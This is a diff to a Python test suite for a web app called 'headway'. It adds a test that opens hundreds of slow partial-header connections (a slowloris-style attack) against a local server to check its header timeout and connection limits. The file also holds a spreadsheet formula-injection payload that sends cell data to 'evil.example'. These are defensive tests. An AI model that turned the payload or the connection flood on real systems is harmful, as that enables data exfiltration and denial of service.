@@ -10,9 +10,15 @@ from __future__ import annotations
 import csv
 import io
 import json
+import resource
+import socket
+import subprocess
+import time
+from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
+import httpx
 import pytest
 from fastapi import FastAPI, Request
 from typer.testing import CliRunner
@@ -27,7 +33,7 @@ from headway.web.csrf import CSRF_COOKIE
 from tests.engine.activity_log import load
 from tests.web.api.conftest import build_world
 from tests.web.auth_support import Browser, auth_app, log_in
-from tests.web.conftest import Client
+from tests.web.conftest import HEADWAY, Client, free_port
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 JOURNEY = """\
@@ -230,3 +236,78 @@ def test_trusted_proxies_are_addresses_only(entry: str, tmp_path: Path) -> None:
     with pytest.raises(ConfigError) as caught:
         load_settings(path)
     assert str(caught.value).startswith("setting http.trusted_proxies is invalid: ")
+
+
+# -- slow clients against a real server ---------------------------------------------------------
+SLOW_CLIENTS = 300  # more than the server process may open files (FD_LIMIT)
+FD_LIMIT = 256
+SLOW_HEAD = b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
+
+
+@pytest.fixture
+def guarded_server(tmp_path: Path) -> Iterator[str]:
+    """``headway serve`` allowed FD_LIMIT open files, a 1 s header timeout and 50 connections."""
+    config = tmp_path / "headway.toml"
+    config.write_text(
+        "[tracking]\nenabled = false\n[http]\nheader_timeout = 1\nmax_connections = 50\n"
+    )
+    port = free_port()
+    cmd = [str(HEADWAY), "--db", str(tmp_path / "h.duckdb"), "serve", "--port", str(port)]
+    process = subprocess.Popen(
+        [*cmd, "--config", str(config)],
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (FD_LIMIT, FD_LIMIT)),
+    )
+    url = f"http://127.0.0.1:{port}"
+    try:
+        deadline = time.monotonic() + 60
+        while httpx_ok(url) is False:
+            assert process.poll() is None and time.monotonic() < deadline, "no server"
+            time.sleep(0.2)
+        yield url
+    finally:
+        process.terminate()
+        try:
+            process.wait(timeout=20)
+        except subprocess.TimeoutExpired:
+            process.kill()
+            process.wait()
+
+
+def httpx_ok(url: str) -> bool:
+    """Whether the server answers /health."""
+    try:
+        return httpx.get(url + "/health", timeout=1).status_code == 200
+    except httpx.TransportError:
+        return False
+
+
+@pytest.mark.slow
+def test_slow_clients_do_not_stop_a_normal_request(guarded_server: str) -> None:
+    port = int(guarded_server.rsplit(":", 1)[1])
+    slow = []
+    try:
+        for _ in range(SLOW_CLIENTS):  # each sends part of its headers, then waits
+            s = socket.create_connection(("127.0.0.1", port), timeout=10)
+            s.sendall(SLOW_HEAD)
+            slow.append(s)
+        r = httpx.get(guarded_server + "/health", timeout=30)  # a hang fails here
+        assert r.status_code == 200 and r.json() == {"status": "ok"}
+        # The header timeout: a client that never finishes its headers is disconnected.
+        lone = socket.create_connection(("127.0.0.1", port), timeout=30)
+        slow.append(lone)
+        lone.sendall(SLOW_HEAD)
+        time.sleep(0.3)
+        lone.sendall(b"x")  # trickling a byte does not reset the clock
+        assert _closed_by_server(lone)  # a hang raises socket.timeout
+    finally:
+        for s in slow:
+            s.close()
+
+
+def _closed_by_server(s: socket.socket) -> bool:
+    try:
+        return s.recv(1024) == b""
+    except ConnectionResetError:
+        return True
